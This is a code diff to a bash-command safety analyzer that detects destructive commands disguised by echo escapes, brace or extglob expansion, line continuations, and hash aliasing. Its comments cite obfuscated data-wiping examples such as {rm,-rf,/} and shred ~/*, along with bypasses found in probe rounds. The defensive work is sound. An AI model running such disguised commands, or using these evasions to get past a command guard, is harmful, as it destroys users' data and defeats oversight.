-            while i < len(vals) and re.fullmatch(r"-[neE]+", vals[i]):
+            # (shopt -s xpg_echo, and sh's echo (dash, macOS's sh): escapes decoded unasked;
+            # dash's echo takes no option but -n: sh -c "echo '\162m -rf ~' | sh" is rm)
+            interpret = self.xpg_echo or self.posix_echo
+            while i < len(vals) and re.fullmatch(r"-n" if self.posix_echo else r"-[neE]+", vals[i]):
                 newline = newline and "n" not in vals[i]
-                interpret = interpret or "e" in vals[i]
+                interpret = _echo_escapes(interpret, vals[i])
                 i += 1
             body = " ".join(vals[i:])
             if interpret:
-                if re.search(r"\\[0-7c]", body):
-                    return _Stream()   # echo's \0NNN octal and \c differ from $'...': not modelled
-                body = _ansi_c(body)
+                body, stopped = _echo_decode(body, self.posix_echo)
+                newline = newline and not stopped
             return _Stream(text=body + ("\n" if newline else ""))
         if name == "printf" and vals[:1] == ["--"]:
             vals = vals[1:]   # (printf -- FORMAT ARGS: the end of printf's options)
@@ -7563,7 +7808,8 @@ class _Analyzer:
         the input or the filter is not known exactly."""
         data: bytes | None = None
         takes = {"iconv": ("-f", "-t", "-o"), "base64": ("-w",), "base32": ("-w",), "basenc": ("-w",),
-                 "cut": ("-d", "-f", "-c", "-b"), "uudecode": ("-o",), "xxd": ("-c", "-s", "-l", "-g", "-o")}.get(name, ())
+                 "cut": ("-d", "-f", "-c", "-b"), "uudecode": ("-o",), "xxd": ("-c", "-s", "-l", "-g", "-o"),
+                 "head": ("-n", "-c"), "tail": ("-n", "-c")}.get(name, ())
         operand = bool(vals) and not vals[-1].startswith("-") and not (len(vals) > 1 and vals[-2] in takes)
         if operand and name not in ("tr", "sed", "awk", "gawk", "mawk", "nawk") \
                 and not (name == "openssl" and len(vals) == 1):
@@ -8625,6 +8871,20 @@ class _Analyzer:
 
     def fx_shred(self, args, vals, part, ctx, unknown_tail, stdin) -> None:
         self.deletes_every_listed(args, part)   # (operands are written: device writes are caught there)
+        self.destroys_every_file(self.operands(args, "ns", ("iterations", "size", "random-source")), part)
+
+    def destroys_every_file(self, ops, part: str) -> None:
+        """shred ~/*, truncate -s 0 /etc/*: every file a bare glob matches in / , the home or a
+        system directory destroyed, as rm ~/* deletes them (cd ~; shred -u * was allowed in
+        bypass; probe round 32)."""
+        for w in ops:
+            if not w.exact or _GLOB_CHARS.search(w.value) is None:
+                continue
+            path = self.abs_path(w)
+            if path is None or re.search(r"[A-Za-z0-9]", _GLOB_CHARS.sub("", path.rsplit("/", 1)[-1])):
+                continue
+            if self.classify(path) in ("root", "home", "system"):
+                self.danger(RM_SYSTEM_FILES, part)
 
     def fx_dd(self, args, vals, part, ctx, unknown_tail, stdin) -> None:
         for w in args:
@@ -9021,6 +9281,7 @@ class _Analyzer:
 
     def fx_truncate(self, args, vals, part, ctx, unknown_tail, stdin) -> None:
         self.deletes_every_listed(args, part)
+        self.destroys_every_file(self.operands(args, "sr", ("size", "reference")), part)
         self.write_operands("truncate", args, part, unknown_tail)
 
     def fx_mknod(self, args, vals, part, ctx, unknown_tail, stdin) -> None:
@@ -9987,6 +10248,12 @@ class _Analyzer:
     def fx_hash(self, args, vals, part, ctx, unknown_tail, stdin) -> None:
         if "-p" in vals:
             self.mark_dynamic()
+            # hash -p /bin/rm ls: a later ls (found by PATH) runs /bin/rm
+            i = vals.index("-p")
+            if i + 1 < len(vals) and all(w.exact for w in args):
+                for n in vals[i + 2:]:
+                    if n not in _BASH_BUILTIN_NAMES and not n.startswith("-"):
+                        self.hashed[n] = vals[i + 1]
 
     def fx_enable(self, args, vals, part, ctx, unknown_tail, stdin) -> None:
         if any(v.startswith("-f") for v in vals):
@@ -10132,6 +10399,8 @@ def analyze_bash(command: str, *, cwd: str | None, home: str | None = None) -> B
         return _unparsed(a, command, ERR_TOO_DEEP)
     except Exception:  # noqa: BLE001 - the analysis must never raise; unknown means not allowed
         return _unparsed(a, command, ERR_INTERNAL)
+    if "\\\n" in command and _SPLIT_EXPANSION.search(command):
+        _merge_reading(a, _join_continuations(command), cwd, home)   # (probe round 32)
     if a.func_bodies and not a.catastrophic and not a.dangerous:
         # f() { ls "$1"; }; f src: judged as the bodies it runs (probe round 29)
         inlined = _inline_functions(command)
@@ -10194,15 +10463,19 @@ def _inline_functions(command: str) -> str | None:
 
     def in_place(nodes) -> str | None:
         """(a list: a pipeline or subshell that defines and calls its own functions, which
-        cannot escape it, is inlined alone, in place: { f() {...}; f; } | sh; true; the
-        whole text with those spans replaced, "" when there are none)"""
+        cannot escape it, is inlined alone, in place: { f() {...}; f; } | sh; true; a
+        { ...; } group's functions do escape it: a later call of one keeps the original
+        reading, as analyze_bash checks (probe round 32); the whole text with those spans
+        replaced, "" when there are none)"""
         parts: list[str] = []
         pos = root.start_byte
         for c in nodes:
-            if c.type in ("pipeline", "subshell") and _FUNC_DEF_HINT.search(t(c)):
+            if c.type in ("pipeline", "subshell", "compound_statement") and _FUNC_DEF_HINT.search(t(c)):
                 inner = _inline_functions(t(c))
                 if inner is None:
                     return None
+                if inner.endswith("\n") and not t(c).endswith("\n"):
+                    inner = inner[:-1]   # (the parse's own line end: ( ... )\n; true is no shell)
                 parts.append(src[pos:c.start_byte] + inner)
                 pos = c.end_byte
         return "".join(parts) + src[pos:] if parts else ""
@@ -10234,28 +10507,14 @@ def _inline_functions(command: str) -> str | None:
             break
     if opens and len(cur) > 1 and text.isascii() and not any(c.type == "function_definition" for c in cur):
         # (the same list one layer down or more: ( { f() {...}; f; } | sh; true ), as the
-        # line alone; probe round 32, found by round 26's wrapper invariant)
+        # line alone; probe round 32, sensitive32 and mcp32, found by round 26's wrapper
+        # invariant: in_place gives the whole text, those spans replaced)
         listed = in_place(cur)
         if listed != "":
             return listed
     if opens and opens[-1] == "":
         return None   # (a pipeline's group not entered: not sure)
     wrap = ("".join(opens), "".join(reversed(closes)))
-    if opens and len(cur) > 1 and text.isascii() and not any(c.type == "function_definition" for c in cur):
-        # (probe round 32, mcp32: the list inside a wrapper too, ( { f() {...}; f; } | sh;
-        # true ): its parts that define and call their own functions inlined in place, as
-        # at the top; the sample of round 26's invariant met it when round 32's file joined)
-        parts = []
-        pos = cur[0].start_byte
-        for c in cur:
-            if c.type in ("pipeline", "subshell") and _FUNC_DEF_HINT.search(t(c)):
-                inner = _inline_functions(t(c))
-                if inner is None:
-                    return None
-                parts.append(src[pos:c.start_byte] + inner)
-                pos = c.end_byte
-        if parts:
-            return wrap[0] + "".join(parts) + src[pos:cur[-1].end_byte] + wrap[1]
     for child in children:
         ty = child.type
         if ty in (";", "\n", "comment"):
@@ -10376,21 +10635,157 @@ def _single_quoted(text: str) -> list[tuple[int, int]] | None:
     return spans
 
 
-# A word that is only a brace list, ``{rm,-rf,/}``: bash expands it to ``rm -rf /``,
-# but the grammar reads a leading ``{`` as a group and fails. Words of that shape only.
-_BRACE_WORD = re.compile(r"(?<![^\s;&|()])\{([^{}\s'\"\\$`]*,[^{}\s'\"\\$`]*)\}(?=$|[\s;&|()])")
+# A word that starts with a brace list, ``{rm,-rf,/}``, ``{r,}m``, ``{/bin/r,}m``: bash
+# expands it (``rm -rf /``, ``rm m``), but the grammar reads a leading ``{`` as a group and
+# fails. Unquoted words of that shape only.
+_BRACE_WORD = re.compile(r"(?<![^\s;&|()])\{[^\s;&|()<>'\"\\$`]*(?=$|[\s;&|()<>])")
+_BRACE_MAP = str.maketrans({"{": _LB, "}": _RB, ",": _CM})
+
+
+def _brace_word_text(m: re.Match) -> str:
+    word = m.group(0)
+    if "}" not in word or ("," not in word and ".." not in word):
+        return word
+    budget = [MAX_BRACE_WORDS]
+    values = [v.translate(_UNMAP) for v in _brace_expand(word.translate(_BRACE_MAP), budget)]
+    return " ".join(v for v in values if v) if budget[0] >= 0 else word
+
+
+_SHELL_VAR_WORD = re.compile(r"\$(?:SHELL|BASH|0|\{(?:SHELL|BASH|0)\})")
+# a substitution that prints its command's standard input: $(cat), $(</dev/stdin)
+_STDIN_SUBST = re.compile(r"\$\(\s*<\s*(?:/dev/stdin|/dev/fd/0|/proc/self/fd/0)\s*\)|`\s*<\s*/dev/stdin\s*`")
+_STDIN_COPIERS = frozenset({"cat", "tac", "base64", "gunzip", "zcat", "xxd", "head", "tail", "tee", "dd", "gzip", "bzcat",
+                            "xzcat", "openssl"})
+
+
+_FUNC_LOOP = re.compile(r"((?:\bfunction\s+[\w.:-]+\s*(?:\(\s*\))?|(?<![\w$])[\w.:-]+\s*\(\s*\))\s*)"
+                        r"((?:for|select)\b.*?\bdone\b)", re.S)
+# an extended glob (bash's extglob, on in many interactive shells and under bash -O
+# extglob): !(x) *(x) +(x) match any name (as * does), @(a|b) one of a or b, ?(a|b) also none
+_EXTGLOB = re.compile(r"([!@*+?])\(([^()\s'\"`$;&<>]*)\)")
+
+
+def _extglob_text(m: re.Match) -> str:
+    kind, alts = m.group(1), m.group(2).split("|")
+    if kind in "!*+":
+        return "*"
+    if kind == "?" and m.end() < len(m.string) and m.string[m.end()] not in " \t\n;&|)/":
+        alts = [""] + alts   # (?(x)y is y or xy; ?(x) alone names x: no file has no name)
+    return alts[0] if len(alts) == 1 else "{" + ",".join(alts) + "}"
+
+
+_ECHO_SIMPLE = {"a": "\a", "b": "\b", "f": "\f", "n": "\n", "r": "\r", "t": "\t", "v": "\v", "\\": "\\"}
+
+
+def _echo_decode(body: str, posix: bool, bare_octal: bool = False) -> tuple[str, bool]:
+    r"""The text echo prints when it decodes escapes: bash's echo -e (\0NNN, \xHH, \uHHHH,
+    \e; \NNN stays as written) or sh's echo (dash: \0NNN and \NNN; macOS's sh: \xHH too);
+    \c ends the output (True: no newline follows). ``bare_octal``: printf's %b, which also
+    reads \NNN (1 to 3 digits) as octal."""
+    out: list[str] = []
+    i, n = 0, len(body)
+    while i < n:
+        ch = body[i]
+        if ch != "\\" or i + 1 >= n:
+            out.append(ch)
+            i += 1
+            continue
+        nxt = body[i + 1]
+        if nxt == "c":
+            return "".join(out), True
+        if nxt in _ECHO_SIMPLE:
+            out.append(_ECHO_SIMPLE[nxt])
+            i += 2
+        elif nxt in "eE" and not posix:
+            out.append("\x1b")
+            i += 2
+        elif nxt == "0" or ((posix or bare_octal) and nxt in "1234567"):
+            start = i + 2 if nxt == "0" else i + 1
+            m = re.match(r"[0-7]{0,3}", body[start:])
+            out.append(chr(int(m.group() or "0", 8) & 0xFF))
+            i = start + len(m.group())
+        elif nxt in "xuU":
+            width = {"x": 2, "u": 4, "U": 8}[nxt] if not posix or nxt == "x" else 0
+            m = re.match(r"[0-9a-fA-F]{1,%d}" % width, body[i + 2:]) if width else None
+            if m:
+                code = int(m.group(), 16)
+                out.append(chr(code) if code < 0x110000 else "")
+                i += 2 + len(m.group())
+            else:
+                out.append("\\" + nxt)
+                i += 2
+        else:
+            out.append("\\" + nxt)
+            i += 2
+    return "".join(out), False
+
+
+def _echo_escapes(interpret: bool, flags: str) -> bool:
+    """Whether echo decodes escapes after an option word -n/-e/-E (the last e or E wins)."""
+    for ch in flags[1:]:
+        if ch in "eE":
+            interpret = ch == "e"
+    return interpret
+
+
+def _join_continuations(text: str) -> str:
+    """The text with each backslash-newline removed, as bash removes it before it reads a
+    word (outside single quotes and comments): $\\<newline>HOME is $HOME, ${HO\\<newline>ME} too."""
+    out: list[str] = []
+    i, n, sq, dq = 0, len(text), False, False
+    while i < n:
+        ch = text[i]
+        if sq:
+            out.append(ch)
+            sq = ch != "'"
+            i += 1
+        elif ch == "\\" and i + 1 < n:
+            if text[i + 1] != "\n":
+                out.append(text[i:i + 2])
+            i += 2
+        elif ch == "#" and not dq and (i == 0 or text[i - 1] in " \t\n;&|()"):
+            end = text.find("\n", i)
+            end = n if end < 0 else end
+            out.append(text[i:end])
+            i = end
+        else:
+            if ch == "'" and not dq:
+                sq = True
+            elif ch == '"':
+                dq = not dq
+            out.append(ch)
+            i += 1
+    return "".join(out)
 
 
 def _brace_words_fallback(a: _Analyzer, command: str, cwd: str | None, home: str | None) -> None:
     """For a command the grammar cannot read: expand brace-list words as bash would
     and analyse that text too, so that what it would run is still found (a
-    catastrophic command hidden as ``{rm,-rf,/}`` is denied, not merely asked). The
-    command stays unparseable; only findings and paths are added."""
-    if "{" not in command or "," not in command:
-        return
-    expanded = _BRACE_WORD.sub(lambda m: " ".join(m.group(1).split(",")), command)
+    catastrophic command hidden as ``{rm,-rf,/}`` is denied, not merely asked); an
+    extended glob is read as the glob or brace list it stands for (rm -rf ~/!(x) is
+    rm -rf ~/*). The command stays unparseable; only findings and paths are added."""
+    expanded = _join_continuations(command) if "\\\n" in command else command
+    if "(" in expanded:
+        expanded = _EXTGLOB.sub(_extglob_text, expanded)
+    if "for" in expanded or "select" in expanded:
+        # f() for x in ~; do ...; done: a function whose body is a loop, as bash allows
+        # and the grammar does not: read as f() { for ...; done; }
+        expanded = _FUNC_LOOP.sub(r"\1{ \2; }", expanded)
+    if "{" in expanded and ("," in expanded or ".." in expanded):
+        expanded = _BRACE_WORD.sub(_brace_word_text, expanded)
     if expanded == command:
         return
+    _merge_reading(a, expanded, cwd, home)
+
+
+# a backslash-newline inside an expansion ($\<newline>HOME, ${HO\<newline>ME}): bash joins
+# the lines first; the grammar reads other text
+_SPLIT_EXPANSION = re.compile(r"\$\\\n|\$\{[^}'\"]*\\\n")
+
+
+def _merge_reading(a: _Analyzer, expanded: str, cwd: str | None, home: str | None) -> None:
+    """What another reading of the command (the text bash reads it as) finds, added to
+    what was found: its commands, findings and paths."""
     b = _Analyzer(expanded, cwd, home)
     try:
         b.parse(expanded, _ROOT_CTX)
